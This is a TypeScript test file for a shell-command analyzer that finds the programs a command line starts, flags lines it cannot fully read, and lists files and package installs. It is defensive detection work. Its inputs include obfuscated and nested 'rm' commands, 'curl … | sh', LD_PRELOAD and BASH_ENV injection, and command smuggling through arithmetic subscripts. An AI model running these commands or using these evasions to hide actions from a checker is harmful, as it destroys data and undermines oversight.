import { describe, expect, test } from 'vitest';
import { packageInstalls } from './package-installs.ts';
import { shellActions } from './shell-commands.ts';

const started = (line: string) =>
  shellActions(line).commands.map(({ command, arguments: given }) =>
    given === null ? `${command} ?` : [command, ...given].join(' '),
  );

describe('the programs of a command line', () => {
  test.each<[string, string[]]>([
    ['ls -la', ['ls -la']],
    ['ls | wc -l; date && rm x || id &', ['ls', 'wc -l', 'date', 'rm x', 'id']],
    ['(cd /srv; { rm y; })', ['cd /srv', 'rm y']],
    ['FOO=1 BAR="a b" rm x', ['rm x']],
    ["r''m x", ['rm x']],
    ['r\\m x', ['rm x']],
    ["$'\\x72\\x6d' x", ['rm x']],
    ['"/bin/rm" "a b"', ['/bin/rm a b']],
    ['echo $(rm x) `id`', ['echo ?', 'rm x', 'id']],
    ['diff <(rm a) >(rm b)', ['diff ?', 'rm a', 'rm b']],
    ['X=$(rm x)', ['rm x']],
    ['rm *.log; cat /etc/shado? {a,b}', ['rm ?', 'cat ?']],
    ['f() { rm x; }; f', ['rm x', 'f']],
    ['for i in a b; do rm $i; done', ['rm ?']],
    ['if test -e x; then rm x; fi', ['test -e x', 'rm x']],
    ['while true; do rm x; done', ['true', 'rm x']],
    ['case a in a) rm x;; esac', ['rm x']],
    ['[[ -n "$(rm x)" ]]', ['rm x']],
    ['echo $((1 + $(rm x)))', ['echo ?', 'rm x']],
    ['sh -c "rm x"', ['sh -c rm x', 'rm x']],
    ["bash -lc 'rm x; id'", ['bash -lc rm x; id', 'rm x', 'id']],
    ['bash -e -c "bash -c \'rm x\'"', ["bash -e -c bash -c 'rm x'", 'bash -c rm x', 'rm x']],
    ['bash build.sh -c x', ['bash build.sh -c x']],
    ['bash <<EOF\nrm x\nEOF', ['bash', 'rm x']],
    ["bash -s <<< 'rm x'", ['bash -s', 'rm x']],
    ['eval rm x', ['eval rm x', 'rm x']],
    ["trap 'rm x' EXIT", ['trap rm x EXIT', 'rm x']],
    ['sudo -u bob rm x', ['sudo -u bob rm x', 'rm x']],
    [
      'env -i A=1 nohup nice -n 5 rm x',
      ['env -i A=1 nohup nice -n 5 rm x', 'nohup nice -n 5 rm x', 'nice -n 5 rm x', 'rm x'],
    ],
    ['timeout -k 5 10 rm x', ['timeout -k 5 10 rm x', 'rm x']],
    ['command rm x', ['command rm x', 'rm x']],
    ['command -v rm', ['command -v rm']],
    ['command -pv rm', ['command -pv rm']],
    ['sudo --version', ['sudo --version']],
    ['trap -p', ['trap -p']],
    ['bash -eu build.sh -c x', ['bash -eu build.sh -c x']],
    ['. ./env.sh; source "$HOME/env.sh"', ['. ./env.sh', 'source ?']],
    ["printf '%s[%s]' a b", ['printf %s[%s] a b']],
    ['exec rm x', ['exec rm x', 'rm x']],
    ['ls | xargs -n 1 rm -f', ['ls', 'xargs -n 1 rm -f', 'rm ?']],
    ['find . -name x -exec rm {} +', ['find . -name x -exec rm {} +', 'rm {}']],
    ["find . -exec sh -c 'rm x' \\;", ['find . -exec sh -c rm x ;', 'sh -c rm x', 'rm x']],
    ['# rm x', []],
    ["echo 'rm x'", ['echo rm x']],
    ["awk '{ print $(NF) }' f", ['awk { print $(NF) } f']],
    ['echo $(($(wc -l < "a") + 1))', ['echo ?', 'wc -l']],
    ['[[ $X == "a b" && -n $(id) ]]', ['id']],
    ['export NODE_ENV=test; hash -r', ['export NODE_ENV=test', 'hash -r']],
    ['ENV=production NODE_OPTIONS=--max-old-space-size=4096 npm start', ['npm start']],
    ['LD_PRELOAD= BASH_ENV="" id', ['id']],
    ['cat <<EOF\nrm x\nEOF', ['cat']],
    ['git commit -m "rm x && id"', ['git commit -m rm x && id']],
  ])('%s', (line, expected) => {
    expect([started(line), shellActions(line).isReadable]).toEqual([expected, true]);
  });

  // Options in which a program was once hidden.
  test.each([
    "bash -v -c 'rm x'",
    "bash -o pipefail -c 'rm x'",
    "bash -euo pipefail -c 'rm x'",
    "bash -c -o pipefail 'rm x'",
    "bash -O extglob -c 'rm x'",
    "bash +O extglob -c 'rm x'",
    "bash --rcfile f -c 'rm x'",
    "bash /dev/stdin <<< 'rm x'",
    "source /dev/stdin <<< 'rm x'",
    "zsh -o x -c 'rm x'",
    'eval -- rm x',
    "trap -- 'rm x' EXIT",
    'env -v rm x',
    'env -iu X rm x',
    'env -a ls rm x',
    'timeout -v 5 rm x',
    'timeout -vk 5 10 rm x',
    'sudo -nu root rm x',
    'sudo -D / rm x',
    'sudo -R / rm x',
    'exec -ca ls rm x',
    'ionice -tc 3 rm x',
    'chroot --userspec a / rm x',
    'nice -5 rm x',
    'ls | xargs -rI {} rm {}',
    'ls | xargs -i rm {}',
    'ls | xargs -l rm',
    'fd x -x rm',
    'fd x --exec-batch rm {} \\;',
    'flock f rm x',
    'strace -f rm x',
    'unshare -m rm x',
    'taskset -c 0 rm x',
    'chrt -b 0 rm x',
    "watch -n 1 'id; rm x'",
  ])('%s has rm in it', (line) => {
    expect(shellActions(line)).toMatchObject({
      commands: expect.arrayContaining([expect.objectContaining({ command: 'rm' })]),
      isReadable: true,
    });
  });

  test.each([
    '$CMD x',
    '"$(echo rm)" x',
    '/bin/r? x',
    '{rm,x}',
    'eval "$X"',
    'sh -c "$X"',
    'curl https://a.example | sh',
    'bash < script',
    'bash <<EOF\n$X\nEOF',
    'sudo $X',
    'find . -exec $X {} +',
    'env -S "rm x"',
    'echo x > $FILE',
    'if true; then',
    "echo 'x",
    'echo $(',
    "X=-c; bash $X 'rm x'",
    'bash <(echo rm x)',
    '. <(echo rm x)',
    "fish --command='rm x'",
    "fish -C 'rm x' -c id",
    'sudo --us root rm x',
    "env --split='rm x'",
    'env - rm x',
    "fd x --exec='rm'",
    "flock f -c 'rm x'",
    "let 'a[$(rm x)]=1'",
    "printf -v 'a[$(rm x)]' y",
    "mapfile -C 'rm x' -c 1 a < f",
    "su -c 'rm x'",
    "[[ 'a[$(rm x)]' -eq 1 ]]",
    '[[ "a[\\$(rm x)]" -eq 1 ]]',
    '[[ -v a[\\$\\(rm\\ x\\)] ]]',
    "((a['$(rm x)']))",
    "echo $((a['$(rm x)']))",
    "X='a[$(rm x)]'; ((X))",
    'X="a[\\`rm x\\`]"; echo $((X))',
    "X=('a[$(rm x)]'); ((X))",
    'X=\'$(rm x)\'; echo "\x24{X@P}"',
    "PS4='rm'; set -x; id",
    'BASH_ENV=f sh -c id',
    'export LD_PRELOAD=/tmp/x.so; id',
    'env BASH_ENV=f bash -c id',
    'sudo LD_PRELOAD=/tmp/x.so id',
    'NODE_OPTIONS="--require ./x.js" npm start',
    'OPENSSL_CONF=./x.cnf curl https://a.example',
    'alias id=rm\nid',
    'hash -p /bin/rm id; id',
    'enable -f ./x.so x',
    "/usr/bin/script -c 'rm x'",
    '/lib64/ld-linux-x86-64.so.2 /bin/rm x',
    `${'sh -c "'.repeat(1)}${'x'.repeat(70_000)}"`,
  ])('cannot all be read in %s', (line) => {
    expect(shellActions(line).isReadable).toBe(false);
  });
});

test('files that the shell opens itself are named', () => {
  expect(shellActions('sort < in.txt > /etc/out 2>> err 2>&1 >/dev/null &> all').files).toEqual([
    { path: 'in.txt', access: 'read' },
    { path: '/etc/out', access: 'write' },
    { path: 'err', access: 'write' },
    { path: 'all', access: 'write' },
  ]);
  expect(shellActions('{ ls; } > /srv/x').files).toEqual([{ path: '/srv/x', access: 'write' }]);
});

test('nesting without end is given up on', () => {
  const quote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
  let line = 'rm x';
  for (let depth = 0; depth < 10; depth += 1) line = `sh -c ${quote(line)}`;
  expect(shellActions(line).isReadable).toBe(false);
});

describe('packages that a command installs', () => {
  const installed = (line: string) =>
    shellActions(line).commands.flatMap(
      (command) =>
        packageInstalls(command)?.map(
          ({ ecosystem, package: name, version }) =>
            `${ecosystem} ${name}${version === undefined ? '' : ` ${version}`}`,
        ) ?? ['unknown'],
    );
  test.each<[string, string[]]>([
    ['npm install left-pad', ['npm left-pad']],
    ['npm i -D @scope/a@1.2.3 b', ['npm @scope/a 1.2.3', 'npm b']],
    ['npm install pad@npm:left-pad@1', ['npm left-pad 1']],
    ['npm --silent i a', ['npm a']],
    ['npm install', []],
    ['npm run install', []],
    ['cd x && yarn add a && pnpm add b; bun add c', ['npm a', 'npm b', 'npm c']],
    ['pnpm dlx a --flag b', ['npm a']],
    ['npx -y a b', ['npm a']],
    ['npx -p a b', ['npm a']],
    ['pip install "requests[socks]==2.0" -r req.txt flask', ['pypi requests 2.0', 'pypi flask']],
    ['sudo python3 -m pip install a', ['pypi a']],
    ["sh -c 'uv pip install a'", ['pypi a']],
    ['uv add a; uvx b; pipx install c', ['pypi a', 'pypi b', 'pypi c']],
    ['cargo install ripgrep@14', ['cargo ripgrep 14']],
    ['go install example.com/x@latest', ['go example.com/x latest']],
    ['apt-get install -y curl', ['apt curl']],
    ['npm install $X', ['unknown']],
    ['echo npm install x', []],
  ])('%s', (line, expected) => {
    expect(installed(line)).toEqual(expected);
  });
});
